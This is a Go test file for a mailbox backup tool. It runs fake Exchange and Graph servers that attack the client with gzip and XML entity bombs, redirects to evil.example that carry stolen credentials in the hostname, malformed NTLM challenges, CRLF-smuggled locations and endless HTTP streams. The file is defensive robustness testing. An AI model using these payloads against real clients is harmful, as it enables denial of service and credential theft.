package main

import (
	"bufio"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"regexp"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"mailbrick/fetch/exchangetest"
)

// attack is what a server does to a mailbox instead of answering. It is made upon requests of an operation, or the first.
type attack struct {
	name  string
	by    string // "ews" or "graph", "" both; "basic", "ntlm" or "oauth" is EWS with that sign-in alone
	upon  string // a word of the request's path or body; "": any request
	how   func(s *hostile, w http.ResponseWriter, r *http.Request)
	said  string // what a person is told, a regular expression
	alone bool   // it ends the account, and with that the other mailbox
	long  bool   // costs seconds of CPU: in the long run only, and there by one way to sign in, which has no part in reading a body
}

// hostile is a server with one mailbox that it attacks and one that it serves.
type hostile struct {
	attack
	ways     string // how the program signs in
	exchange http.Handler
	foreign  string       // another server
	calls    atomic.Int64 // attacks so far
	cookies  atomic.Int64 // that came back
	mailbox  sync.Map     // of Graph: by its id
}

func (s *hostile) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.cookies.Add(int64(len(r.Cookies())))
	if !ofServer(r) || !s.isBad(r) || s.upon != "" && !names(r, s.upon) {
		s.serve(w, r)
		return
	}
	s.calls.Add(1)
	s.how(s, w, r)
}

// isBad tells a request for the mailbox that is attacked.
func (s *hostile) isBad(r *http.Request) bool {
	text := r.URL.Path + r.Header.Get("X-AnchorMailbox")
	if i := strings.Index(text, "MBX:"); i >= 0 {
		id, _, _ := strings.Cut(text[i:], "/")
		if who, ok := s.mailbox.Load(id); ok {
			text, _ = who.(string)
		}
	}
	return strings.Contains(text, "bad.")
}

// serve hands a request on, and notes which mailbox an id of Graph is.
func (s *hostile) serve(w http.ResponseWriter, r *http.Request) {
	_, user, ok := strings.Cut(r.URL.Path, "/users/")
	if !ok {
		s.exchange.ServeHTTP(w, r)
		return
	}
	answer := httptest.NewRecorder()
	s.exchange.ServeHTTP(answer, r)
	if id := regexp.MustCompile(`MBX:[^"]+`).FindString(answer.Body.String()); id != "" {
		s.mailbox.Store(id, user)
	}
	maps.Copy(w.Header(), answer.Header())
	w.WriteHeader(answer.Code)
	w.Write(answer.Body.Bytes())
}

// names says whether a word stands in the path of a request, a line for itself, or near the begin of its body, which is left as it is.
func names(r *http.Request, word string) bool {
	body := bufio.NewReader(r.Body)
	begin, _ := body.Peek(4 << 10) // or less
	r.Body = struct {
		io.Reader
		io.Closer
	}{body, r.Body}
	return strings.Contains(r.URL.Path+"\n"+string(begin), word)
}

// kind is the content type of the server's protocol.
func (s *hostile) kind() string {
	if s.by == "graph" {
		return "application/json"
	}
	return "text/xml; charset=utf-8"
}

// soap wraps the content of an answer of EWS.
func soap(inside string) string {
	return `<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body xmlns:m="http://schemas.microsoft.com/exchange/services/2006/messages" xmlns:t="http://schemas.microsoft.com/exchange/services/2006/types">` +
		inside + `</s:Body></s:Envelope>`
}

// responded is an answer of EWS to an operation that went well.
func responded(operation, inside string) string {
	return soap(`<m:` + operation + `Response><m:ResponseMessages><m:` + operation + `ResponseMessage ResponseClass="Success"><m:ResponseCode>NoError</m:ResponseCode>` +
		inside + `</m:` + operation + `ResponseMessage></m:ResponseMessages></m:` + operation + `Response>`)
}

// packed answers in gzip, a beginning and then the same piece for as long as somebody reads: it is packed once, and a thousand times as
// long as what is sent.
func packed(begin, piece string) func(*hostile, http.ResponseWriter, *http.Request) {
	all := endless(zip(begin), zip(strings.Repeat(piece, 4<<20/len(piece))))
	return func(s *hostile, w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Encoding", "gzip")
		all(s, w, r)
	}
}

// says answers with a text.
func says(text string) func(*hostile, http.ResponseWriter, *http.Request) {
	return func(s *hostile, w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", s.kind())
		io.WriteString(w, text)
	}
}

// endless answers with a beginning and then the same piece for as long as somebody reads.
func endless(begin, piece string) func(*hostile, http.ResponseWriter, *http.Request) {
	piece = strings.Repeat(piece, max(1, 64<<10/len(piece)))
	return func(s *hostile, w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", s.kind())
		for _, err := io.WriteString(w, begin); err == nil; {
			_, err = io.WriteString(w, piece)
		}
	}
}

// raw answers with bytes of its own instead of HTTP, the last of them for as long as somebody reads if it is to be endless.
func raw(more bool, pieces ...string) func(*hostile, http.ResponseWriter, *http.Request) {
	return func(s *hostile, w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		conn, _, err := w.(http.Hijacker).Hijack()
		if err != nil {
			return
		}
		defer conn.Close()
		kind := strings.NewReplacer("text/xml", s.kind())
		for _, p := range pieces {
			_, err = io.WriteString(conn, kind.Replace(p))
		}
		last := strings.Repeat(pieces[len(pieces)-1], 1000)
		for more && err == nil {
			_, err = io.WriteString(conn, last)
		}
	}
}

// redirects leads to another server.
func redirects(status int, to string) func(*hostile, http.ResponseWriter, *http.Request) {
	return func(s *hostile, w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Location", strings.ReplaceAll(to, "FOREIGN", s.foreign)+"/EWS/Exchange.asmx?token=hidden")
		w.WriteHeader(status)
	}
}

// pages gives one page after the other, each of which names the next, "N" being its number.
func pages(text string) func(*hostile, http.ResponseWriter, *http.Request) {
	return func(s *hostile, w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", s.kind())
		here := "http://" + r.Host + r.URL.Path
		io.WriteString(w, strings.NewReplacer("{N}", fmt.Sprint(s.calls.Load()), "{HERE}", here, "{FOREIGN}", s.foreign).Replace(text))
	}
}

// reflects says back what it was given, as a fault.
func reflects(s *hostile, w http.ResponseWriter, r *http.Request) {
	secret := r.Header.Get("Authorization") + " " + s.password() + " \x1b]0;x " + strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
	w.Header().Set("Content-Type", s.kind())
	w.WriteHeader(http.StatusInternalServerError)
	if s.by == "graph" {
		text, _ := json.Marshal("you said " + secret)
		fmt.Fprintf(w, `{"error":{"code":"ErrorItemCorrupt","message":%s}}`, text)
		return
	}
	io.WriteString(w, soap(`<s:Fault><faultcode>s:Client</faultcode><faultstring>you said `+strings.ReplaceAll(secret, "\x1b", "")+
		`</faultstring><detail><m:ResponseCode>ErrorAccessDenied</m:ResponseCode></detail></s:Fault>`))
}

// password is the user's, which the server knows from before.
func (s *hostile) password() string {
	if s.ways == "oauth" || s.ways == "graph" {
		return ""
	}
	return "hunter2hunter2"
}

// codes calls an error by what it was sent.
func codes(s *hostile, w http.ResponseWriter, r *http.Request) {
	_, sent, _ := strings.Cut(r.Header.Get("Authorization"), " ")
	w.Header().Set("Content-Type", s.kind())
	w.WriteHeader(http.StatusInternalServerError)
	if s.by == "graph" {
		fmt.Fprintf(w, `{"error":{"code":%q,"innerError":{"code":%q}}}`, sent, sent)
		return
	}
	io.WriteString(w, soap(`<s:Fault><faultcode>`+sent+`</faultcode><faultstring>no</faultstring><detail><m:ResponseCode>`+sent+s.password()+`</m:ResponseCode></detail></s:Fault>`))
}

// quotes answers with something that is no HTTP and holds the credentials, which net/http quotes.
func quotes(text string) func(*hostile, http.ResponseWriter, *http.Request) {
	return func(s *hostile, w http.ResponseWriter, r *http.Request) {
		_, sent, _ := strings.Cut(r.Header.Get("Authorization"), " ")
		raw(false, strings.ReplaceAll(text, "{SENT}", sent+" "+s.password()))(s, w, r)
	}
}

// leadsToSecrets redirects to a place whose name holds the credentials.
func leadsToSecrets(s *hostile, w http.ResponseWriter, r *http.Request) {
	_, sent, _ := strings.Cut(r.Header.Get("Authorization"), " ")
	w.Header().Set("Location", "https://"+strings.TrimRight(sent, "=")+".evil.example/"+sent+"/"+s.password()+"/\u202e\u009b31m")
	w.WriteHeader(http.StatusTemporaryRedirect)
}

// pageAtSecrets is a page whose next one is at a host that is called as the token.
func pageAtSecrets(s *hostile, w http.ResponseWriter, r *http.Request) {
	_, sent, _ := strings.Cut(r.Header.Get("Authorization"), " ")
	says(`{"value":[],"@odata.nextLink":"https://`+sent+`.evil.example/v1.0/admin/exchange/x"}`)(s, w, r)
}

// challenges are messages of NTLM that are none. Whoever meets one stops the account: no more mailboxes are asked for.
func challenges() (list []attack) {
	const begin = "NTLMSSP\x00\x02\x00\x00\x00"
	fields := begin + strings.Repeat("\x00", 28)
	for name, message := range map[string]string{
		"none": "", "a name": "NTLMSSP", "cut": begin, "all bits": begin + strings.Repeat("\xff", 60), "zero": begin + strings.Repeat("\x00", 36), "long": strings.Repeat("a", 100<<10),
		"information beyond its end":     fields + "\xff\xff\xff\xff\x30\x00\x00\x00" + strings.Repeat("a", 8),
		"information far away":           fields + "\x08\x00\x08\x00\xff\xff\xff\x7f" + strings.Repeat("a", 8),
		"information without its end":    fields + "\x10\x00\x10\x00\x30\x00\x00\x00" + strings.Repeat("\x01\x00\xff\x7f", 6),
		"information of 60,000 nothings": fields + "\x60\xea\x60\xea\x30\x00\x00\x00" + strings.Repeat("\x02\x00\x00\x00", 15000),
	} {
		list = append(list, attack{name: "a challenge: " + name, by: "ntlm", alone: true, said: "NTLM|credentials|closes", how: func(_ *hostile, w http.ResponseWriter, _ *http.Request) {
			w.Header().Add("WWW-Authenticate", "NTLM "+base64.StdEncoding.EncodeToString([]byte(message)))
			w.WriteHeader(http.StatusUnauthorized)
		}})
	}
	return list
}

// attacks are all there are; "FOREIGN" is the address of a server that must not be asked.
func attacks() []attack {
	const truncated, notExchange, away = "cut short|longer than", "not from (Exchange Web Services|Microsoft Graph)", "redirect"
	const head = "HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\n"
	const chunked = head + "Transfer-Encoding: chunked\r\n\r\n"
	const ages = "31556952000000" // seconds: a million years
	const item = `<m:SyncState>s{N}</m:SyncState><m:IncludesLastItemInRange>false</m:IncludesLastItemInRange><m:Changes>`
	bomb := `<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY x SYSTEM "http://FOREIGN/x">]><b>&b;&x;</b>`
	return []attack{
		{name: "a page", how: func(_ *hostile, w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, "<html>Sign in</html>")
		}, said: notExchange},
		{name: "redirect to another port", how: redirects(307, "http://FOREIGN"), said: away},
		{name: "redirect to another host", how: redirects(308, "https://evil.example"), said: away},
		{name: "redirect to plain http", how: redirects(302, "http://evil.example"), said: away},
		{name: "redirect that moves for good", how: redirects(301, "https://evil.example"), said: away},
		{name: "redirect to who signs in", how: redirects(303, "https://someone:password@evil.example"), said: away},
		{name: "not HTTP", how: raw(false, "SSH-2.0-OpenSSH_9.9\r\n"), said: "."},
		{name: "nothing", how: raw(false, ""), said: "."},
		{name: "endless headers", how: raw(true, head, "X-A: "+strings.Repeat("a", 1000)+"\r\n"), said: "."},
		{name: "endless header", how: raw(true, head+"X-A: ", strings.Repeat("a", 1000)), said: "."},
		{name: "endless status", how: raw(true, "HTTP/1.1 200 ", strings.Repeat("a", 1000)), said: "."},
		{name: "endless 1xx", how: raw(true, "HTTP/1.1 103 Early Hints\r\nLink: a\r\n\r\n"), said: "."},
		{name: "endless chunk extension", how: raw(true, head+"Transfer-Encoding: chunked\r\n\r\n1;", strings.Repeat("a", 1000)), said: "."},
		{name: "chunks with long extensions", how: raw(true, head+"Transfer-Encoding: chunked\r\n\r\n", "1;"+strings.Repeat("a", 1000)+"\r\n \r\n"), said: "."},
		{name: "a chunk of negative length", how: raw(false, head+"Transfer-Encoding: chunked\r\n\r\n-5\r\nabc\r\n0\r\n\r\n"), said: "."},
		{name: "negative length", how: raw(false, head+"Content-Length: -5\r\n\r\nabc"), said: "."},
		{name: "two lengths", how: raw(false, head+"Content-Length: 5\r\nContent-Length: 7\r\n\r\nabcdefg"), said: "."},
		{name: "enormous length", how: raw(false, head+"Content-Length: 9223372036854775807\r\n\r\n<a>"), said: "."},
		{name: "a length too long", by: "graph", how: raw(false, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 500\r\n\r\n{}"), said: truncated},
		{name: "a length too short", by: "graph", how: raw(false, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 9\r\n\r\n{\"value\":[]}"), said: truncated},
		{name: "an encoding of its own", by: "ews", how: raw(false, head+"Content-Encoding: br\r\nContent-Length: 3\r\n\r\nabc"), said: "."},
		{name: "an endless trailer", how: raw(true, strings.Replace(chunked, "xml", "html", 1)+"0\r\n", "X-A: "+strings.Repeat("a", 1000)+"\r\n"), said: "."},
		{name: "an endless trailer of a document", by: "ews", how: raw(true, chunked+"5\r\n<a/> \r\n0\r\n", "X-A: "+strings.Repeat("a", 1000)+"\r\n"), said: "."},
		{name: "an endless line of a trailer", how: raw(true, chunked+"0\r\nX-A: ", strings.Repeat("a", 1000)), said: "."},
		{name: "chunks of nothing", how: raw(true, chunked, "00000000000000001\r\n \r\n"), said: "."},
		{name: "a chunk of enormous length", how: raw(false, chunked+"fffffffffffffffff\r\nabc\r\n"), said: "."},
		{name: "two answers", how: raw(false, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nContent-Length: 3\r\n\r\n<a>"), said: "."},
		{name: "another protocol", how: raw(false, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n"), said: "."},
		{name: "endless cookies", how: raw(true, head, "Set-Cookie: a=b; Domain=evil.example\r\n"), said: "."},
		{name: "cookies for others", how: func(s *hostile, w http.ResponseWriter, r *http.Request) {
			for _, domain := range []string{"", "; Domain=evil.example", "; Domain=example", "; Domain=127.0.0.1; Path=/"} {
				w.Header().Add("Set-Cookie", "X-BackEndOverrideCookie=a"+domain)
			}
			w.WriteHeader(http.StatusInternalServerError)
		}, said: "HTTP 500"},
		{name: "redirect to where the credentials are", how: leadsToSecrets, said: away},
		{name: "redirect to no host", how: redirects(302, "https://"), said: away},
		{name: "redirect to a file", how: redirects(302, "file:///etc"), said: away},
		{name: "redirect to a name of lines", how: redirects(302, "https://evil.example%0d%0aX: y"), said: away},
		{name: "redirect to itself", how: func(_ *hostile, w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Location", r.URL.Path)
			w.WriteHeader(http.StatusPermanentRedirect)
		}, said: away},
		{name: "a pause of a million years", by: "graph", how: func(_ *hostile, w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Retry-After", ages)
			w.WriteHeader(http.StatusTooManyRequests)
		}, said: "pause of 24h"},
		{name: "a pause of a million years", by: "ews", how: func(s *hostile, w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", s.kind())
			w.WriteHeader(http.StatusInternalServerError)
			io.WriteString(w, soap(`<s:Fault><faultcode>a:ErrorServerBusy</faultcode><faultstring>No.</faultstring><detail><m:ResponseCode>ErrorServerBusy</m:ResponseCode>`+
				`<t:MessageXml><t:Value Name="BackOffMilliseconds">`+ages+`000</t:Value></t:MessageXml></detail></s:Fault>`))
		}, said: "pause of 24h"},
		{name: "a gzip bomb", how: packed("", " "), said: "longer than|too long"},
		{name: "gzip of nothing", how: func(s *hostile, w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Encoding", "gzip")
			endless("", zip(""))(s, w, r)
		}, said: "longer than|too long"},
		{name: "its credentials back", how: reflects, said: "you said|ErrorAccessDenied|ErrorItemCorrupt"},

		{name: "its credentials as a protocol", how: quotes("{SENT}\r\n\r\n"), said: "."},
		{name: "its credentials as a status", how: quotes("HTTP/1.1 {SENT}\r\n\r\n"), said: "."},
		{name: "its credentials as a header", how: quotes("HTTP/1.1 200 OK\r\n{SENT}\r\n\r\n"), said: "."},
		{name: "its credentials as a length", how: quotes("HTTP/1.1 200 OK\r\nContent-Length: {SENT}\r\n\r\n"), said: "."},
		{name: "its credentials as a code", how: codes, said: "HTTP 500|: no|without"},

		{name: "entity bomb", by: "ews", how: says(bomb), said: notExchange + "|cut short"},
		{name: "deep nesting", by: "ews", how: endless(soap("")[:100], "<a>"), said: "."},
		{name: "deep nesting in the answer", by: "ews", upon: "SyncFolderItems", how: endless(strings.TrimSuffix(soap(""), "</s:Body></s:Envelope>")+"<m:SyncFolderItemsResponse>", "<a>"), said: "."},
		{name: "a million attributes", by: "ews", how: endless(`<?xml version="1.0"?><a `, `b="c" `), said: "."},
		{name: "endless attribute", by: "ews", how: endless(`<?xml version="1.0"?><a b="`, "cccc"), said: "."},
		{name: "endless name", by: "ews", how: endless(`<?xml version="1.0"?><a`, "cccc"), said: "."},
		{name: "endless comment", by: "ews", how: endless(`<?xml version="1.0"?><!--`, "cccc"), said: ".", long: true},
		{name: "endless text", by: "ews", upon: "SyncFolderItems", how: endless(strings.Split(responded("SyncFolderItems", "<m:SyncState>"), "</m:")[0]+"</m:ResponseCode><m:SyncState>", "aaaa"), said: "."},
		{name: "endless white space", by: "ews", how: endless(`<?xml version="1.0"?>`, "    "), said: ".", long: true},
		{name: "endless changes", by: "ews", upon: "SyncFolderItems", how: endless(strings.Split(responded("SyncFolderItems", ""), "</m:ResponseCode>")[0]+"</m:ResponseCode>"+item,
			`<t:Delete><t:ItemId Id="a"/></t:Delete>`), said: "more than"},
		{name: "endless folders", by: "ews", upon: "FindFolder", how: endless(strings.Split(responded("FindFolder", ""), "</m:ResponseCode>")[0]+
			`</m:ResponseCode><m:RootFolder IncludesLastItemInRange="true"><t:Folders>`, `<t:Folder><t:FolderId Id="a"/></t:Folder>`), said: "more than"},
		{name: "pages of folders without end", by: "ews", upon: "FindFolder", how: func(s *hostile, w http.ResponseWriter, r *http.Request) {
			folders := strings.Repeat(fmt.Sprintf(`<t:Folder><t:FolderId Id="%d%s"/></t:Folder>`, s.calls.Load(), strings.Repeat("a", 60000)), 100)
			says(responded("FindFolder", fmt.Sprintf(`<m:RootFolder IndexedPagingOffset="%d" IncludesLastItemInRange="false"><t:Folders>%s</t:Folders></m:RootFolder>`, 1+s.calls.Load(), folders)))(s, w, r)
		}, said: "more folders"},
		{name: "empty pages of folders without end", by: "ews", upon: "FindFolder", how: pages(responded("FindFolder", `<m:RootFolder IndexedPagingOffset="{N}" IncludesLastItemInRange="false"><t:Folders/></m:RootFolder>`)), said: "without end"},
		{name: "states without end", by: "ews", upon: "SyncFolderItems", how: pages(responded("SyncFolderItems", item+"</m:Changes>")), said: "without end"},
		{name: "the same item without end", by: "ews", upon: "SyncFolderItems", how: pages(responded("SyncFolderItems", item+`<t:Delete><t:ItemId Id="a"/></t:Delete></m:Changes>`)), said: "without end"},
		{name: "states in a circle", by: "ews", upon: "SyncFolderItems", how: pages(responded("SyncFolderItems", strings.Replace(item, "{N}", "", 1)+"</m:Changes>")), said: "circle"},
		{name: "another operation", by: "ews", upon: "SyncFolderItems", how: says(responded("GetItem", "")), said: truncated},
		{name: "an enormous size", by: "ews", upon: "SyncFolderItems", how: says(responded("SyncFolderItems", strings.Replace(item, "false", "true", 1)+
			`<t:Create><t:Message><t:ItemId Id="a" ChangeKey="b"/><t:Size>-9223372036854775808</t:Size></t:Message></t:Create><t:Create><t:Message><t:ItemId Id="c"/><t:Size>9223372036854775807</t:Size></t:Message></t:Create><t:Create><t:Message><t:ItemId Id="d"/><t:Size>1e999</t:Size></t:Message></t:Create></m:Changes>`)), said: "ErrorInvalidId|not there|."},
		{name: "no item", by: "ews", upon: "ExportItems", how: says(responded("ExportItems", "")), said: "without data|no answer|fewer"},
		{name: "one item too many", by: "ews", upon: "ExportItems", how: func(s *hostile, w http.ResponseWriter, r *http.Request) {
			message := strings.Split(strings.Split(responded("ExportItems", `<m:ItemId Id="a"/><m:Data>AAAA</m:Data>`), "<m:ResponseMessages>")[1], "</m:ResponseMessages>")[0]
			says(soap("<m:ExportItemsResponse><m:ResponseMessages>"+strings.Repeat(message, 60)+"</m:ResponseMessages></m:ExportItemsResponse>"))(s, w, r)
		}, said: "."},
		{name: "endless data", by: "ews", upon: "ExportItems", how: endless(strings.Split(responded("ExportItems", ""), "</m:ResponseCode>")[0]+"</m:ResponseCode><m:Data>", "AAAA"), said: ".", long: true},
		{name: "gzip bomb", by: "ews", upon: "ExportItems", how: packed(strings.Split(responded("ExportItems", ""), "</m:ResponseCode>")[0]+"</m:ResponseCode><m:Data>", "AAAA"), said: ".", long: true},

		{name: "deep nesting", by: "graph", how: endless(`{"a":`, "["), said: "."},
		{name: "deep objects", by: "graph", how: endless(``, `{"a":`), said: "."},
		{name: "endless number", by: "graph", how: endless(`{"a":1`, "0000"), said: "."},
		{name: "endless string", by: "graph", how: endless(`{"primaryMailboxId":"`, "aaaa"), said: "."},
		{name: "endless name", by: "graph", how: endless(`{"`, "aaaa"), said: "."},
		{name: "endless white space", by: "graph", how: endless(``, "    "), said: "."},
		{name: "endless repetition of a key", by: "graph", how: endless(`{`, `"primaryMailboxId":"MBX:a@b",`), said: "."},
		{name: "not UTF-8", by: "graph", how: says("{\"primaryMailboxId\":\"MBX:\xff\xfe\"}"), said: truncated},
		{name: "a mailbox that leads away", by: "graph", how: says(`{"primaryMailboxId":"../../../evil"}`), said: "."},
		{name: "endless folders", by: "graph", upon: "olders\n", how: endless(`{"value":[{"id":"a"}`, `,{"id":"a"}`), said: "too long|longer than|more than"},
		{name: "endless items", by: "graph", upon: "items/delta", how: endless(`{"value":[{"id":"a"}`, `,{"id":"a"}`), said: "too long|longer than|more than"},
		{name: "the next page elsewhere", by: "graph", upon: "items/delta", how: pages(`{"value":[],"@odata.nextLink":"http://{FOREIGN}/v1.0/admin/exchange/x"}`), said: "another place"},
		{name: "the next page at the token", by: "graph", upon: "items/delta", how: pageAtSecrets, said: "another place"},
		{name: "the next page of folders elsewhere", by: "graph", upon: "olders\n", how: pages(`{"value":[],"@odata.nextLink":"https://evil.example/v1.0/admin/exchange/x"}`), said: "another place"},
		{name: "the next changes elsewhere", by: "graph", upon: "items/delta", how: pages(`{"value":[],"@odata.deltaLink":"https://evil.example/v1.0/admin/exchange/x"}`), said: "another place"},
		{name: "the next page by who signs in", by: "graph", upon: "items/delta", how: pages(`{"value":[],"@odata.nextLink":"http://x:y@evil.example/"}`), said: "another place"},
		{name: "two next pages", by: "graph", upon: "items/delta", how: pages(`{"value":[],"@odata.nextLink":"{HERE}?a","@odata.nextLink":"https://evil.example/v1.0/admin/exchange/x"}`), said: "another place"},
		{name: "pages without end", by: "graph", upon: "items/delta", how: pages(`{"value":[],"@odata.nextLink":"{HERE}?$skiptoken={N}"}`), said: "without end"},
		{name: "pages in a circle", by: "graph", upon: "items/delta", how: pages(`{"value":[],"@odata.nextLink":"{HERE}?$skiptoken=1"}`), said: "circle|itself"},
		{name: "empty pages of folders without end", by: "graph", upon: "olders\n", how: pages(`{"value":[],"@odata.nextLink":"{HERE}?$skiptoken={N}"}`), said: "without end"},
		{name: "pages of folders in a circle", by: "graph", upon: "olders\n", how: pages(`{"value":[],"@odata.nextLink":"{HERE}?$skiptoken=1"}`), said: "circle"},
		{name: "endless data", by: "graph", upon: "exportItems", how: endless(`{"value":[{"itemId":"a","data":"`, "AAAA"), said: "longer than", long: true},
		{name: "gzip bomb", by: "graph", upon: "exportItems", how: packed(`{"value":[{"itemId":"a","data":"`, "AAAA"), said: "longer than", long: true},
		{name: "pages of folders without end", by: "graph", upon: "olders\n", how: func(s *hostile, w http.ResponseWriter, r *http.Request) {
			folders := strings.Repeat(fmt.Sprintf(`{"id":"%d%s","displayName":"a","childFolderCount":0},`, s.calls.Load(), strings.Repeat("a", 60000)), 100)
			pages(`{"value":[`+strings.TrimSuffix(folders, ",")+`],"@odata.nextLink":"{HERE}?$skiptoken={N}"}`)(s, w, r)
		}, said: "more folders"},
		{name: "a number with an exponent", by: "graph", upon: "items/delta", how: says(`{"value":[{"id":"a","size":1e400}],"@odata.deltaLink":"x"}`), said: truncated},
		{name: "an enormous size", by: "graph", upon: "items/delta", how: pages(`{"value":[{"id":"a","size":9223372036854775807},{"id":"b","size":-9223372036854775808},{"id":"c","size":9223372036854775807}],"@odata.deltaLink":"{HERE}?$deltatoken=1"}`), said: "."},
		{name: "other items", by: "graph", upon: "exportItems", how: says(`{"value":[{"itemId":"x","data":"AAAA"},{"itemId":"y","data":"AAAA"}]}`), said: "."},
	}
}

// TestHostileServers backs up many mailboxes in one run, each from a server of its own that attacks it, and beside it one that the
// server leaves alone: that one comes in whole, the other is said to have failed, with the reason; nobody else is asked for anything,
// no secret is said, and memory stays small.
func TestHostileServers(t *testing.T) {
	t.Parallel()
	r := newTrial(t, exchangetest.Options{})
	r.exchange.AddApp(exchangetest.App{ID: "app", Secret: "the-client-secret"})
	r.exchange.AddAccount("keeper", "hunter2hunter2")
	elsewhere := new(proxy)
	away := r.serve(elsewhere)
	servers := map[string]*hostile{} // by the mailbox that is attacked
	var text strings.Builder
	for i, a := range slices.Concat(attacks(), challenges()) {
		for _, way := range a.waysIn(i, os.Getenv("MAILBRICK_TORTURE") != "") {
			a.by = "ews"
			if way == "graph" {
				a.by = way
			}
			s := &hostile{attack: a, ways: way, exchange: r.exchange, foreign: strings.TrimPrefix(away, "http://")}
			n := len(servers)
			bad, good := fmt.Sprintf("bad.%d@contoso.example", n), fmt.Sprintf("good.%d@contoso.example", n)
			for _, mailbox := range []string{bad, good} {
				if err := r.exchange.Make(mailbox, 1, 2, 0); err != nil {
					t.Fatal(err)
				}
			}
			servers[bad] = s
			text.WriteString(r.hostileSource(n, s, bad, good))
		}
	}
	c, peak := r.apart([]string{"HTTP_PROXY=" + away, "HTTPS_PROXY=" + away}, "backup", "--archive", r.archive, "--password-file", r.password,
		"--config", r.file("config.toml", text.String()), "--json", "--no-index", "--parallel", "64")
	t.Logf("%d mailboxes that are attacked, %d MiB of memory", len(servers), peak>>20)
	if peak > 250<<20 && !raced() {
		t.Errorf("%d MiB of memory", peak>>20)
	}
	if asked := elsewhere.all(); len(asked) > 0 {
		t.Error("somebody else was asked:", asked)
	}
	for _, secret := range []string{"hunter2", "the-client-secret", "a2VlcGVyOmh1bnRlcjJodW50ZXIy", "TlRMTVNTUA", "eyJ", "token=", "\x1b", "goroutine ", "panic"} {
		if i := strings.Index(c, secret); i >= 0 {
			t.Errorf("%q is said: %.300s", secret, c[max(0, i-200):])
		}
	}
	for bad, s := range servers {
		s.check(t, c, bad)
	}
}

// waysIn are how the program signs in at the server that does the i-th attack. In the short suite each attack meets one way of EWS, and
// Graph; in the long run all. What costs seconds is in the long run alone, and by one way there: none has a part in reading a body.
func (a *attack) waysIn(i int, all bool) []string {
	ews := []string{"basic", "ntlm", "oauth"}
	switch {
	case a.long && !all:
		return nil
	case a.long:
		ews = ews[:1]
	case !all:
		ews = ews[i%3:][:1]
	}
	switch a.by {
	case "ews":
		return ews
	case "":
		return append(ews[:len(ews):len(ews)], "graph")
	}
	return []string{a.by}
}

// check looks for what the program said of the server's two mailboxes.
func (s *hostile) check(t *testing.T, said, bad string) {
	t.Helper()
	name := s.ways + ": " + s.name
	lines := map[string]backupLine{}
	for _, mailbox := range []string{bad, strings.Replace(bad, "bad", "good", 1)} {
		_, rest, _ := strings.Cut(said, `{"mailbox":"`+mailbox+`"`)
		rest, _, _ = strings.Cut(rest, "\n")
		var line backupLine
		if err := json.Unmarshal([]byte(`{"mailbox":"`+mailbox+`"`+rest), &line); err != nil {
			t.Errorf("%s: nothing of %s", name, mailbox)
		}
		lines[mailbox[:4]] = line
	}
	if line := lines["good"]; !s.alone && (!line.Complete || line.Items != 2) {
		t.Errorf("%s: the mailbox that was served: %+v", name, line)
	}
	line := lines["bad."]
	reason := line.Error
	for _, f := range line.Failures {
		reason += " " + f.Cause
	}
	for _, gap := range line.Coverage.Missing() {
		reason += " " + fmt.Sprint(gap)
	}
	if s.calls.Load() == 0 || line.Complete || !regexp.MustCompile(s.said).MatchString(reason) || reason == "" {
		t.Errorf("%s: after %d attacks %q, want %s: %+v", name, s.calls.Load(), reason, s.said, line)
	}
	if s.cookies.Load() > 0 {
		t.Errorf("%s: %d cookies came back", name, s.cookies.Load())
	}
	t.Logf("%s (%d): %s", name, s.calls.Load(), reason)
}

// hostileSource is a source of the configuration.
func (r *trial) hostileSource(n int, s *hostile, mailboxes ...string) string {
	server := httptest.NewUnstartedServer(s)
	server.Config = r.exchange.HTTPServer()
	server.Config.Handler = s
	server.Config.ErrorLog = log.New(io.Discard, "", 0)
	server.Start()
	r.t.Cleanup(server.Close)
	text := fmt.Sprintf("[[source]]\nname = \"%d\"\nmailboxes = [\"%s\"]\n", n, strings.Join(mailboxes, `", "`))
	if s.ways == "oauth" || s.ways == "graph" {
		text += fmt.Sprintf("authority = \"%s\"\nclient_id = \"app\"\nclient_secret_file = %q\n", server.URL+exchangetest.AuthorityPath(), r.file("app-secret", "the-client-secret"))
	} else {
		text += fmt.Sprintf("user = \"keeper\"\nuser_password_file = %q\nimpersonate = true\n", r.file("keeper", "hunter2hunter2"))
	}
	if s.ways == "graph" {
		return text + fmt.Sprintf("graph = \"%s\"\n", server.URL+exchangetest.GraphPath)
	}
	return text + fmt.Sprintf("ews = \"%s\"\nauth = %q\n", server.URL+exchangetest.Path, s.ways)
}
